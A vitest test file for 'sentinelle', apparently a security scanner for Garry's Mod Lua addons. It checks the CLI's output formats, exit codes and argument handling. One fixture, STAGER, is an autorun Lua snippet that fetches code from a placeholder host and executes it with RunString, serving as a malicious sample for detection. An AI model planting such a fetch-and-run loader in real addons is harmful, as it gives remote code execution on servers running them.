// The `sentinelle` command, spawned as a user would run it (needs the build: npm run build,
// or npx tsc -b packages/scanner).
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { strToU8, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scanResultSchema } from '@sentinelle/contracts';
import { main } from './cli.js';

const packageRoot = join(dirname(fileURLToPath(import.meta.url)), '..');
const bin = join(packageRoot, 'bin', 'sentinelle.js');
let dir: string;

function sentinelle(...args: string[]) {
  const r = spawnSync(process.execPath, [bin, ...args], {
    encoding: 'utf8',
    maxBuffer: 64 * 1024 * 1024,
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const STAGER = [
  'timer.Simple(1, function()',
  '  http.Fetch("https://cdn.example.invalid/f.php?key=abc", function(body)',
  '    RunString(body, ":", false)',
  '  end)',
  'end)',
].join('\n');

beforeAll(() => {
  if (!existsSync(join(packageRoot, 'dist', 'cli.js'))) {
    throw new Error(
      'dist/cli.js is missing: build the scanner first (npx tsc -b packages/scanner)',
    );
  }
  dir = mkdtempSync(join(tmpdir(), 'sentinelle-cli-'));
  writeFileSync(
    join(dir, 'stager.zip'),
    zipSync({
      'lua/autorun/server/sv_hud.lua': strToU8(STAGER),
      'addon.json': strToU8('{"title":"hud"}'),
    }),
  );
  const folder = join(dir, 'clean-addon', 'lua', 'autorun', 'client');
  mkdirSync(folder, { recursive: true });
  writeFileSync(
    join(folder, 'cl_hello.lua'),
    'hook.Add("HUDPaint", "hello", function() draw.SimpleText("hi", "DermaLarge", 10, 10) end)\n',
  );
  writeFileSync(join(dir, 'notes.zip'), 'this is not a zip archive');
  writeFileSync(
    join(dir, 'big.zip'),
    zipSync({
      'lua/autorun/cl_x.lua': strToU8('print("x")'),
      'sound/big.wav': [randomBytes(11 * 1024 * 1024), { level: 0 }],
    }),
  );
});

afterAll(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('sentinelle scan', () => {
  it('prints the scan result as JSON by default and exits 0 without --fail-on', () => {
    const r = sentinelle('scan', join(dir, 'stager.zip'));
    expect(r.code).toBe(0);
    const result = scanResultSchema.parse(JSON.parse(r.stdout));
    expect(result.filename).toBe('stager.zip');
    expect(result.threats.some((t) => t.severity === 'critical')).toBe(true);
    expect(result.score).toBeLessThan(40);
  });

  it('exits 1 when a threat reaches --fail-on and 0 when none does', () => {
    expect(sentinelle('scan', join(dir, 'stager.zip'), '--fail-on', 'critical').code).toBe(1);
    expect(sentinelle('scan', join(dir, 'clean-addon'), '--fail-on=medium').code).toBe(0);
  });

  it('scans a folder', () => {
    const r = sentinelle('scan', join(dir, 'clean-addon'));
    expect(r.code).toBe(0);
    const result = scanResultSchema.parse(JSON.parse(r.stdout));
    expect(result.lua_file_count).toBe(1);
    expect(result.score).toBeGreaterThanOrEqual(80);
  });

  it('writes the text report in French and SARIF on request', () => {
    const text = sentinelle('scan', join(dir, 'stager.zip'), '--format', 'text', '--lang', 'fr');
    expect(text.code).toBe(0);
    expect(text.stdout).toContain("RAPPORT DE SÉCURITÉ D'ADDON");
    expect(text.stdout).toContain('lua/autorun/server/sv_hud.lua');
    const sarif = JSON.parse(
      sentinelle('scan', join(dir, 'stager.zip'), '--format', 'sarif').stdout,
    );
    expect(sarif.version).toBe('2.1.0');
    expect(sarif.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri).toBe(
      'lua/autorun/server/sv_hud.lua',
    );
  });

  it('exits 2 with a clear message on unusable or missing input and bad options', () => {
    const notZip = sentinelle('scan', join(dir, 'notes.zip'));
    expect(notZip.code).toBe(2);
    expect(notZip.stdout).toBe('');
    expect(notZip.stderr).toMatch(/cannot be scanned/);
    const missing = sentinelle('scan', join(dir, 'nowhere.zip'));
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/no such file or folder/);
  });

  it('refuses bad arguments with exit 2 and the usage on stderr', async () => {
    // Argument handling needs no process of its own: main() is the same code the bin runs.
    const run = async (...argv: string[]) => {
      let out = '';
      let err = '';
      const code = await main(argv, { stdout: (t) => (out += t), stderr: (t) => (err += t) });
      return { code, out, err };
    };
    for (const argv of [
      ['scan', join(dir, 'stager.zip'), '--format', 'xml'],
      ['scan'],
      ['frobnicate'],
      [],
      ['scan', 'a.zip', 'b.zip'],
      ['scan', 'a.zip', '--fail-on', 'severe'],
    ]) {
      const r = await run(...argv);
      expect(r.code, argv.join(' ')).toBe(2);
      expect(r.err, argv.join(' ')).toContain('Usage: sentinelle scan');
      expect(r.out).toBe('');
    }
  });

  it('prints progress on stderr for inputs over 10 MB, and nothing for small ones', () => {
    const big = sentinelle('scan', join(dir, 'big.zip'));
    expect(big.code).toBe(0);
    expect(big.stderr).toMatch(/sentinelle: reading big\.zip \(11\.0 MB/);
    expect(big.stderr).toMatch(/done in/);
    expect(sentinelle('scan', join(dir, 'stager.zip')).stderr).toBe('');
  });

  it('shows usage and version', () => {
    const help = sentinelle('--help');
    expect(help.code).toBe(0);
    expect(help.stdout).toContain('Usage: sentinelle scan');
    expect(sentinelle('--version').stdout).toMatch(/^sentinelle \d+\.\d+\.\d+/);
  });
});
